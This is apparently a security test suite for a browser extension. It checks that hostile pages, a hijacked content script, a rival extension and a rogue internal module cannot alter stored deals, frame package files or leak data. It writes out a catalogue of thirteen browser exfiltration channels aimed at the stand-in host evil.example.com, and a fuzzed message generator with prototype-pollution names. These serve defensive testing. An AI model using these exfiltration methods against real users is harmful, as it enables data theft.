import { readdir } from 'node:fs/promises';
import { extname, join } from 'node:path';
import fc from 'fast-check';
import type { Page } from 'puppeteer-core';
import { expect, it } from 'vitest';
import { contentScriptRequests } from '../../../lib/messaging/contract.ts';
import { byRole } from '../../harness/accessible.ts';
import { contentScriptOf } from '../../harness/content-script.ts';
import { buildFolder } from '../../harness/root.ts';
import { chipOn, leadPage, puts } from '../../harness/story.ts';
import { useConnectedStory } from '../../harness/use-story.ts';
import { validRequests } from '../../harness/valid-requests.ts';
import { waitFor } from '../../harness/wait-for.ts';

// Attacks by a page, a taken-over content script, another extension and a hostile module of the extension.

const story = useConnectedStory();

/** Everything stored for longer than the session, except what a page may change: whether its button is shown, and the deal that its popup shows. */
const stored = () =>
  story.evaluateInWorker(`Promise.all([
    chrome.storage.local.get(null), chrome.storage.sync.get(null),
  ]).then((areas) => JSON.stringify(areas.map((area) =>
    Object.entries(area).filter(([name]) => !/^(chip-hidden-on|last-used-deals|known-deals.*)$/.test(name)).sort())))`);

/** Creates messages that a taken-over content script might send: valid requests, invalid ones and random values. */
function hostileMessages(count: number): { name?: unknown }[] {
  const valid = Object.entries(validRequests).map(([name, input]) => ({ name, input }));
  const names = Object.keys(validRequests);
  const inputs = valid.map(({ input }) => input);
  const parts = inputs.flatMap((input) => Object.values(input));
  const part = fc.oneof(fc.constantFrom(...parts), fc.jsonValue({ maxDepth: 2 }));
  const whole = fc.constantFrom(...inputs);
  const input = fc.oneof(
    whole,
    fc
      .tuple(whole, fc.constantFrom(...inputs.flatMap((each) => Object.keys(each))), part)
      .map(([base, key, value]) => ({ ...base, [key]: value })),
    fc.jsonValue({ maxDepth: 2 }),
  );
  const name = fc.oneof(
    { arbitrary: fc.constantFrom(...names), weight: 8 },
    {
      arbitrary: fc.constantFrom('__proto__', 'constructor', 'toString', '', 'deal.save ', 'DEAL.SAVE'),
      weight: 1,
    },
    { arbitrary: fc.jsonValue({ maxDepth: 1 }), weight: 1 },
  );
  const message = fc.oneof(
    { arbitrary: fc.record({ name, input }), weight: 9 },
    { arbitrary: fc.record({ name, input, card: fc.constant('close') }, { requiredKeys: [] }), weight: 1 },
    { arbitrary: fc.jsonValue({ maxDepth: 2 }), weight: 1 },
  );
  return [...valid, ...(fc.sample(message, { numRuns: count, seed: 7 }) as { name?: unknown }[])];
}

it('10 000 messages from a content script, each valid request among them, change no deal and stop nothing', async () => {
  const page = await story.newPage(leadPage());
  const asContentScript = await contentScriptOf(page);
  // The button shows that the page's own requests are done.
  await chipOn(page);
  const before = await stored();
  await story.evaluateInWorker('globalThis.mark = 1');
  const answered = new Set<unknown>();
  const messages = hostileMessages(10_000);
  for (let start = 0; start < messages.length; start += 1_000) {
    const batch = messages.slice(start, start + 1_000);
    const answers = (await asContentScript(`Promise.all(${JSON.stringify(batch)}.map((message) =>
      chrome.runtime.sendMessage(message).then((answer) => answer ?? null, () => null)))`)) as unknown[];
    for (const [index, answer] of answers.entries()) if (answer) answered.add(batch[index]?.name);
  }
  expect([...answered].sort()).toEqual(Object.keys(contentScriptRequests).sort());
  expect(await stored()).toBe(before);
  expect(await story.evaluateInWorker('globalThis.mark')).toBe(1);
  // The popup that a page may open reads a deal.
  expect(story.sandbox.requests.filter(({ method }) => method !== 'GET')).toEqual([]);
  expect(story.sandbox.strayRequests).toEqual([]);
});

/** Loads each address in a separate frame. Returns the addresses that were displayed. */
async function frameEach(page: Page, addresses: readonly string[]): Promise<string[]> {
  await page.evaluate(async (sources) => {
    const frames = sources.map((source) => Object.assign(document.createElement('iframe'), { src: source }));
    const loaded = frames.map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve)));
    document.body.append(...frames);
    await Promise.all(loaded);
  }, addresses);
  const children = await waitFor('the frames', () => {
    const found = page.mainFrame().childFrames();
    return found.length >= addresses.length && found;
  });
  const shown = await Promise.all(children.map((frame) => frame.evaluate('location.href')));
  return shown.map(String).filter((address) => address.startsWith('chrome-extension:'));
}

it('lets no page frame a file of the package, except Close the card', async () => {
  const all = (await readdir(buildFolder, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name).slice(buildFolder.length + 1));
  // Every page, and one file of each other kind: the manifest names what may be framed, and `content-scripts.test.ts` reads it.
  const kinds = new Map(all.map((file) => [extname(file), file]));
  const files = [...new Set([...all.filter((file) => file.endsWith('.html')), ...kinds.values()])];
  expect(files.length).toBeGreaterThan(8);
  const close = await story.newPage(leadPage());
  const asContentScript = await contentScriptOf(close);
  // The dynamic id of the extension, which lasts until the browser ends and which a page may learn from a frame.
  const secret = String(await asContentScript("new URL(chrome.runtime.getURL('/card.html')).origin"));
  const own = `chrome-extension://${story.extensionId}`;
  expect(secret).not.toBe(own);
  const everyAddress = [own, secret].flatMap((origin) => files.map((file) => `${origin}/${file}`));
  const foreign = await story.newPage('https://plain.example.com/');
  expect(await frameEach(foreign, everyAddress)).toEqual([]);
  expect((await frameEach(close, everyAddress)).map((address) => new URL(address).pathname)).toEqual([
    '/card.html',
  ]);
  await Promise.all([foreign.close(), close.close()]);
});

it('another extension sees no requests of this one, even with rights over all sites', async () => {
  const foreignId = await story.browser.installExtension(join(import.meta.dirname, 'foreign-extension'));
  const target = await story.browser.waitForTarget(
    (each) => each.type() === 'service_worker' && each.url().includes(foreignId),
  );
  const foreign = await target.worker();
  if (!foreign) throw new Error('The foreign extension does not run.');
  await foreign.evaluate('ready');
  const seen = async () => (await foreign.evaluate('seen')) as string[];
  const page = await story.newPage(leadPage());
  await waitFor('the page request', async () => (await seen()).includes(leadPage()));
  // It sees and redirects requests of pages.
  const plain = await story.newPage('https://plain.example.com/');
  await plain.evaluate("fetch('https://api.close.com/api/v1/me/', { mode: 'no-cors' }).catch(() => {})");
  await waitFor('the redirect', async () => (await seen()).includes('https://plain.example.com/stolen'));
  expect(story.sandbox.requests).toEqual([]);
  const before = (await seen()).length;
  const popup = await story.openPopup(page);
  await (await byRole(popup, 'radio', '90%')).click();
  await waitFor('the save', () => puts(story)[0]?.status === 200);
  expect((await seen()).slice(before).filter((address) => /api\.close\.com|stolen/.test(address))).toEqual(
    [],
  );
  await plain.close();
  await story.browser.uninstallExtension(foreignId);
});

/** Ways to send data out of a page, each settled once it was sent or failed. */
const waysOut = `({ address, ending, element }) => ({
  fetch: () => fetch(address),
  image: () => element('img', { src: address }),
  beacon: () => navigator.sendBeacon(address, 'key'),
  WebSocket: () => ending(new WebSocket(address.replace('https', 'wss'))),
  EventSource: () => ending(new EventSource(address)),
  font: () => new FontFace('out', 'url(' + address + ')').load(),
  style: () => element('link', { rel: 'stylesheet', href: address }),
  import: () => import(address),
  worker: () => ending(new Worker(address)),
  prefetch: () => element('link', { rel: 'prefetch', href: address }),
  frame: () => element('iframe', { src: address }),
  media: () => element('video', { src: address }),
  form: () => {
    const form = element('form', { method: 'post', action: address, target: '_blank' });
    document.forms[document.forms.length - 1].submit();
    return form;
  },
})`;

/** Tries each way from a page. Returns their names once each was sent, has failed or was refused. */
async function tryWaysOut(page: Page): Promise<string[]> {
  return (await page.evaluate(`(() => {
    const ending = (source) => new Promise((resolve) => {
      for (const type of ['load', 'error', 'open']) source.addEventListener(type, resolve);
    });
    const element = (name, validties) => {
      const made = Object.assign(document.createElement(name), validties);
      document.body.append(made);
      return ending(made);
    };
    const names = Object.keys((${waysOut})({}));
    return Promise.all(names.map(async (name) => {
      const address = 'https://evil.example.com/' + name + '?key';
      // The browser reports some refusals only to the document, not to the caller.
      const refusal = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
          if (blockedURI.includes('evil.example.com/' + name)) resolve();
        }));
      try { await Promise.race([(${waysOut})({ address, ending, element })[name](), refusal]); } catch {}
      return name;
    }));
  })()`)) as string[];
}

/** Requests to hosts that must get none. A set, because the browser repeats a request that a host calls misdirected. */
function arrivals(): string[] {
  const paths = new Set(story.sandbox.strayRequests.map(({ path }) => path.slice(1)));
  paths.delete('favicon.ico');
  return [...paths].sort();
}

it('a hostile module in the extension cannot send data out, except by navigation', async () => {
  const page = await story.openExtensionPage('options.html');
  const tried = await tryWaysOut(page);
  expect(tried).toHaveLength(13);
  const fromWorker = "fetch('https://evil.example.com/worker').then(() => 'sent', () => 'refused')";
  expect(await story.evaluateInWorker(fromWorker)).toBe('refused');
  // No policy prevents navigation, so the package is searched for it instead.
  await page.evaluate("location.href = 'https://evil.example.com/navigation?key'");
  await waitFor('the navigation', () => story.sandbox.strayRequests.length > 0);
  // Its request arrives before the page is left, which ends all other attempts.
  await waitFor('the other page', () =>
    page
      .evaluate("location.host === 'evil.example.com' && document.readyState === 'complete'")
      .catch(() => false),
  );
  expect(arrivals()).toEqual(['navigation']);
  // The other page has no policy, so every way works there. This proves that the attempts are real.
  story.sandbox.strayRequests.length = 0;
  // Not awaited, because some of the messages get no answer.
  void tryWaysOut(page).catch(() => {});
  await waitFor('the form', () => arrivals().includes('form'));
  // The form opened a tab, and background pages load no media.
  await page.bringToFront();
  await waitFor('every way out', () => arrivals().length === tried.length);
  expect(arrivals()).toEqual([...tried].sort());
  await page.close();
});
